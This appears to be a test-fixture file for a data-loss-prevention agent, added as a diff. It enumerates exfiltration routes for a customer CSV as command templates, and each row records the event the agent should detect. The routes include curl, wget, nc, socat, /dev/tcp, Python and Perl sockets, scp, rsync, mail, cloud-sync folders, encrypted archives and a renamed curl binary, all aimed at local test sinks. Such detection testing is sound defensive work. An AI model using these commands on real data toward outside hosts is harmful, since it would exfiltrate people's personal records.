@@ -1,0 +1,133 @@
+"""The ways out: one row, one command line as somebody would type it. What it promises is written here, and nowhere else.
+
+In a command: {s} the file (1,584 customers), {t} the name of this run, {m} the medium, {share} {bind} the network shares, {home} the
+user's home, {out} a folder of the user's, {sink} the outside's folder, {ssh} {scp} the programs with the options that reach its
+sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} ports of its servers, {port} a listener of this run.
+"""
+
+import dataclasses
+
+# What other parts of the agent must be there for a row. Whoever merges one adds it: its rows are then held to what they promise.
+MERGED: set[str] = set()
+
+
+@dataclasses.dataclass(frozen=True)
+class Row:
+    command: str
+    channel: str
+    program: str                      # that the event names
+    to: dict = dataclasses.field(default_factory=dict)   # of the event's destination; values may hold {…}
+    unpack: str = "cat"               # makes what arrived readable again, from its input to its output
+    at: str = ""                      # where that is, as a pattern in {out}; empty: anything of this run's name outside
+    show: str = ""                    # or a command that prints it
+    needs: str = ""                   # "network" (the kernel's guard of connections), "lineage" (pipes and derived files)
+    block: str = "yes"                # "late": it has happened when we see it; the README says why
+    picture: bool = False             # what leaves is a picture: that there is one is all that can be asked of it
+    fails: bool = True                # the tool says so when it is stopped
+    same_event: bool = True           # the event is about this run's file; else about any of the user's (pipes have no name)
+
+
+LOOPBACK = {"address": "127.0.0.1"}
+
+
+def network(command: str, program: str, port: str = "", **more) -> Row:
+    to = dict(LOOPBACK) | ({"port": port} if port else {})
+    return Row(command, "network_transfer", program, to, **more)
+
+
+def medium(command: str, program: str, **more) -> Row:
+    return Row(command, "removable_media", program, {"kind": "medium"}, **more)
+
+
+ROWS = [
+    # Removable media.
+    medium("cp {s} {m}/{t}.csv", "cp"),
+    medium("mv {s} {m}/{t}.csv", "mv"),
+    medium("install -m 600 {s} {m}/{t}.csv", "install"),
+    medium("dd if={s} of={m}/{t}.csv bs=64k status=none", "dd"),
+    medium("cat {s} > {m}/{t}.csv", "cat"),
+    medium("tee {m}/{t}.csv < {s} > /dev/null", "tee"),
+    medium("sort {s} -o {m}/{t}.csv", "sort"),
+    medium("tar -cf {m}/{t}.tar -C {d} export.csv", "tar"),
+    medium("zip -q {m}/{t}.zip {s}", "zip", unpack="funzip"),
+    medium("gzip -c {s} > {m}/{t}.gz", "gzip", unpack="gzip -dc"),
+    medium("openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {s} -out {m}/{t}.bin", "openssl",
+           unpack="openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:x"),
+    medium("python3 -c \"import shutil; shutil.copyfile('{s}', '{m}/{t}.csv')\"", "python3"),
+    medium("python3 -c \"import mmap; d = open('{s}', 'rb').read(); f = open('{m}/{t}.csv', 'wb+'); f.truncate(len(d)); "
+           "mmap.mmap(f.fileno(), len(d))[:] = d\"", "python3"),
+    medium("exec 3> {m}/{t}.csv; cat {s} >&3", "cat"),
+    medium("cp {s} {out}/{t}.png && cp {out}/{t}.png {m}/{t}.png", "cp"),
+    medium("base64 {s} > {out}/{t}.txt && cp {out}/{t}.txt {m}/{t}.txt", "cp", unpack="base64 -d"),
+    medium("rsync {s} {m}/{t}.csv", "rsync", needs="lineage"),
+    medium("cat {s} | tee {m}/{t}.csv > /dev/null", "tee", needs="lineage", same_event=False),
+    medium("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s} && cp {out}/{t}.gpg {m}/{t}.gpg", "cp",
+           unpack="gpg --batch --quiet --passphrase x -d", needs="lineage"),
+    # Network shares.
+    Row("cp {s} {share}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}),
+    Row("cat {s} > {share}/{t}.csv", "network_share", "cat", {"kind": "share", "address": "127.0.0.1"}),
+    Row("dd if={s} of={bind}/{t}.csv bs=64k status=none", "network_share", "dd", {"kind": "share"}),
+    # Transfers.
+    network("curl -sf -T {s} http://127.0.0.1:{http}/{t}", "curl", "{http}"),
+    network("curl -sf --data-binary @{s} http://127.0.0.1:{http}/{t}", "curl", "{http}",
+            fails=False),  # it warns, and sends nothing
+    network("curl -sf -F file=@{s} http://127.0.0.1:{http}/{t}", "curl", "{http}"),
+    network("curl -sfk -T {s} https://127.0.0.1:{https}/{t}", "curl", "{https}"),
+    network("wget -q -O /dev/null --post-file={s} http://127.0.0.1:{http}/{t}", "wget", "{http}"),
+    network("{scp} {s} vigie-way-sink@127.0.0.1:{sink}/{t}.csv", "scp", "{sshport}"),
+    network("echo 'put {s} {sink}/{t}.csv' | {sftp} -b - vigie-way-sink@127.0.0.1", "sftp", "{sshport}"),
+    network("rsync -e '{ssh}' {s} vigie-way-sink@127.0.0.1:{sink}/{t}.csv", "rsync"),
+    network("rsync {s} rsync://127.0.0.1:{rsync}/in/{t}.csv", "rsync", "{rsync}"),
+    network("ftp -u ftp://127.0.0.1:{ftp}/{t}.csv {s}", "tnftp", "{ftp}"),
+    network("lftp -c 'open ftp://127.0.0.1:{ftp}; put {s} -o {t}.csv'", "lftp", "{ftp}"),
+    network("rclone -q --config /dev/null copyto {s} :ftp,host=127.0.0.1,port={ftp},user=anonymous,pass={obscured}:{t}.csv", "rclone", "{ftp}"),
+    network("socat -u FILE:{s} TCP:127.0.0.1:{port}", "socat", "{port}"),
+    network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}", needs="network"),
+    network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}", needs="network"),
+    network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}", needs="network"),
+    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}", needs="network"),
+    network("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(open('{s}', 'rb').read())\"",
+            "python3", "{port}", needs="network"),
+    network("perl -MIO::Socket::INET -e 'open F, shift; print {{IO::Socket::INET->new(shift)}} <F>' {s} 127.0.0.1:{port}", "perl",
+            "{port}", needs="network"),
+    network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}", needs="network"),
+    network("cat {s} | nc -N 127.0.0.1 {port}", "nc.openbsd", "{port}", needs="network lineage", same_event=False),
+    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "curl", "{http}",
+            unpack="base64 -d | gzip -dc", needs="network lineage", same_event=False),
+    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "ssh", "{sshport}",
+            needs="network lineage", same_event=False),
+    network("gzip -c {s} > {out}/{t}.bin && curl -sf -T {out}/{t}.bin http://127.0.0.1:{http}/{t}", "curl", "{http}",
+            unpack="gzip -dc"),
+    network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
+            unpack="funzip -x", needs="lineage"),
+    # Version control.
+    Row("git init -q {out}/{t} && cp {s} {out}/{t}/ && git -C {out}/{t} add export.csv", "version_control", "git",
+        show="git -c safe.directory=* -C {out}/{t} cat-file -p :export.csv"),
+    Row("hg init {out}/{t} && cp {s} {out}/{t}/ && hg -R {out}/{t} --cwd {out}/{t} commit -q -A -u x -m x", "version_control", "python3",
+        show="hg -R {out}/{t} cat -r tip {out}/{t}/export.csv"),
+    Row("mkdir {out}/{t} && cp {s} {out}/{t}/ && svn import -q -m x {out}/{t} file://{svn}/{t}", "version_control", "svn",
+        {"kind": "folder"}, show="svn cat file://{svn}/{t}/export.csv"),
+    # Mail.
+    Row("swaks --silent 2 --to {t}@example.com --from x@example.com --server 127.0.0.1:{smtp} --attach @{s}", "email", "perl",
+        {"kind": "mail", "name": "example.com"}),
+    Row("echo text | mutt -F /dev/null -e 'set sendmail=\"{msmtp}\" copy=no' -s x -a {s} -- {t}@example.com", "email", "mutt",
+        {"kind": "mail", "name": "example.com"}),
+    Row("echo text | s-nail -n -S v15-compat -S mta=smtp://127.0.0.1:{smtp} -S smtp-auth=none -S from=x@example.com -s x -a {s} "
+        "{t}@example.com", "email", "s-nail", {"kind": "mail", "name": "example.com"}),
+    # Clouds.
+    Row("cp {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
+    Row("cp {s} {home}/Dropbox/team/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
+    Row("mv {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "mv", {"kind": "folder"}, block="late"),
+    Row("rclone -q --config {home}/rclone.conf copyto {s} drive:{t}.csv", "cloud_sync", "rclone", {"name": "drive"}),
+    # Archives.
+    Row("zip -q {out}/{t}.zip {s}", "archive", "zip", at="{t}.zip", unpack="funzip"),
+    Row("tar -czf {out}/{t}.tgz -C {d} export.csv", "archive", "tar", at="{t}.tgz", unpack="gzip -dc"),
+    Row("7z a -bd -psecret {out}/{t}.7z {s} > /dev/null", "archive", "7z", show="7z e -psecret -so {out}/{t}.7z"),
+    Row("xz -k -c {s} > {out}/{t}.xz", "archive", "xz", at="{t}.xz", unpack="xz -dc"),
+    Row("zstd -q {s} -o {out}/{t}.zst", "archive", "zstd", at="{t}.zst", unpack="zstd -dc"),
+    Row("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s}", "archive", "gpg", at="{t}.gpg",
+        unpack="gpg --batch --quiet --passphrase x -d"),
+    Row("age -R {age}.pub -o {out}/{t}.age {s}", "archive", "age", at="{t}.age", unpack="age -d -i {age}"),
+    # The screen: somebody has the file open, and a picture is taken.
+    Row("tail -f {s} > /dev/null & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png", "screenshot", "bash", at="{t}.png", picture=True),
+]
